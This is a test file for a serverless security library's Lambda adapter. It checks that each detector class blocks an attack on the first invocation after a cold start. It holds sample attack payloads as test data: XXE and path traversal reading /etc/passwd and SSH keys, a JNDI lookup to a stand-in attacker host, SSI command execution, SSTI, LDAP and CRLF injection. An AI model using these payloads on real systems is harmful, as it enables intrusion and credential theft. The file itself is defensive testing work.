/**
 * The first invocation after a cold start is as protected as every later one: in a fresh Node process,
 * import the adapter, wrap a handler, call it ONCE with an attack, and it must be blocked, for every
 * detector class. Two ways the library is loaded: from the package by name (Node takes dist/pkg), and
 * from an esbuild bundle built as `sam build` builds it (the bundler takes dist/esm through the
 * `module` export condition). Nothing is warmed up or compiled in advance by the test.
 * Runs against dist/ (`npm test` builds first).
 */
import t from 'tap';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { build } from 'esbuild';
import type { DetectorClass } from '../../src/types';
import * as ev from '../helpers/lambda-events';
import { ATTACKS } from '../helpers/tables';
import { tempDir } from '../sinks/helpers';

type Any = any;
const root = path.resolve(__dirname, '..', '..');

/** One attack per detector class: the shared table's first of each class, or ours. */
const EXTRA: Array<{ class: DetectorClass; payload: string }> = [
  // The table's code-injection lines also read as shell (execSync('id')); this one is code only.
  { class: 'code-injection', payload: "new Function('return process')().exit()" },
  { class: 'ssti', payload: "{{''.__class__.__mro__[1].__subclasses__()}}" },
  { class: 'ldap', payload: '*)(uid=*))(|(uid=*' },
  { class: 'xxe', payload: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>' },
  { class: 'jndi', payload: '${jndi:ldap://evil.example/a}' },
  // crlf applies where a value can become a header (headers, cookies, path, query): the query here.
  { class: 'crlf', payload: 'x\r\nSet-Cookie: session=evil' },
  { class: 'ssi', payload: '<!--#exec cmd="id" -->' },
];
const CLASSES: readonly DetectorClass[] = ['sqli', 'nosqli', 'shell', 'path-traversal', 'ssrf', 'xss', 'code-injection', 'prototype-pollution', 'deserialization', 'ssti', 'ldap', 'xxe', 'jndi', 'crlf', 'ssi'];
/**
 * Attacks whose detection builds something on first use (a lazily created table or decoder): the
 * first invocation must build it, not skip it. xxe: UTF-7 XML is decoded by a TextDecoder created on
 * the first UTF-7 document (src/detectors/xxe.ts).
 */
const LAZY: Array<{ class: DetectorClass; payload: string }> = [
  // path-traversal: the token analysis's tables (crown words by pair, names, extensions) are built at
  // the first token it analyzes (src/detectors/path-traversal.ts buildTokenTables).
  { class: 'path-traversal', payload: '....//....//etc/passwd' },
  { class: 'path-traversal', payload: '../.ssh/id_rsa' },
  { class: 'xxe', payload: '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r+AFs-+ADw-!ENTITY x SYSTEM +ACI-http://attacker.test/x+ACI-+AD4-+AF0-+AD4-+ADw-r+AD4-+ACY-x+ADs-+ADw-/r+AD4-' },
];
const ONE_EACH = [...CLASSES.map((c) => [...EXTRA, ...ATTACKS].find((a) => a.class === c)!), ...LAZY];

const dir = tempDir('rasp-first-');
fs.mkdirSync(path.join(dir, 'node_modules'));
fs.symlinkSync(root, path.join(dir, 'node_modules', 'serverless-rasp'), 'dir');
fs.symlinkSync(path.join(root, 'node_modules', 're2'), path.join(dir, 'node_modules', 're2'), 'dir');
fs.writeFileSync(
  path.join(dir, 'handler.ts'),
  `import { protect } from 'serverless-rasp/aws-lambda';
export const handler = protect(async () => ({ statusCode: 200, body: 'ok' }), { log: false, onSecurityEvent: (e) => void (globalThis as any).__classes.push(e.class) });
`,
);
// The same handler for Node to load from the package (no bundler involved).
fs.writeFileSync(
  path.join(dir, 'handler-pkg.js'),
  `const { protect } = require('serverless-rasp/aws-lambda');
exports.handler = protect(async () => ({ statusCode: 200, body: 'ok' }), { log: false, onSecurityEvent: (e) => void globalThis.__classes.push(e.class) });
`,
);
const events = path.join(dir, 'events.json');
fs.writeFileSync(events, JSON.stringify(ONE_EACH.map((a) => ev.apiGatewayV2({ path: '/search', query: { q: a.payload } }))));
fs.writeFileSync(path.join(dir, 'context.json'), JSON.stringify(ev.lambdaContext()));
fs.writeFileSync(
  path.join(dir, 'run.js'),
  `const [file, i] = process.argv.slice(2);
const event = JSON.parse(require('fs').readFileSync(${JSON.stringify(events)}, 'utf8'))[Number(i)];
const context = { ...JSON.parse(require('fs').readFileSync(${JSON.stringify(path.join(dir, 'context.json'))}, 'utf8')), getRemainingTimeInMillis: () => 3000 };
globalThis.__classes = [];
const { handler } = require(file); // the import: nothing of the library is loaded before this line
handler(event, context).then((r) => console.log(JSON.stringify({ status: r.statusCode, classes: globalThis.__classes })));
`,
);

/** One fresh process: load `file`, first invocation with attack `i`. */
function firstInvocation(file: string, i: number): { status?: number; classes?: string[]; error?: string } {
  const r = spawnSync(process.execPath, [path.join(dir, 'run.js'), file, String(i)], { cwd: dir, encoding: 'utf8', timeout: 60_000, env: { PATH: process.env.PATH ?? '' } });
  try {
    return JSON.parse(r.stdout.trim().split('\n').pop() ?? '');
  } catch {
    return { error: `${r.stdout}\n${r.stderr}`.trim().slice(-800) };
  }
}

t.test('package by name (dist/pkg): the first invocation blocks every class', async (t) => {
  const file = path.join(dir, 'handler-pkg.js');
  for (const [i, a] of ONE_EACH.entries()) {
    const r = firstInvocation(file, i);
    t.same({ status: r.status, has: r.classes?.includes(a.class) }, { status: 403, has: true }, `${a.class}: ${JSON.stringify(a.payload)}`, { got: r });
  }
});

t.test('esbuild bundle as sam build makes it (dist/esm): the first invocation blocks every class', async (t) => {
  const out = path.join(dir, 'bundle.js');
  const res = await build({ absWorkingDir: dir, entryPoints: [path.join(dir, 'handler.ts')], outfile: out, bundle: true, platform: 'node', target: 'node20', format: 'cjs', minify: true, external: ['re2'], metafile: true, logLevel: 'silent' });
  const inputs = Object.keys(res.metafile.inputs).map((k) => k.replace(/\\/g, '/'));
  t.ok(inputs.some((k) => k.endsWith('dist/esm/adapters/aws-lambda/index.js')), 'the bundler took the ES module tree');
  for (const [i, a] of ONE_EACH.entries()) {
    const r: Any = firstInvocation(out, i);
    t.same({ status: r.status, has: r.classes?.includes(a.class) }, { status: 403, has: true }, `${a.class}: ${JSON.stringify(a.payload)}`, { got: r });
  }
});
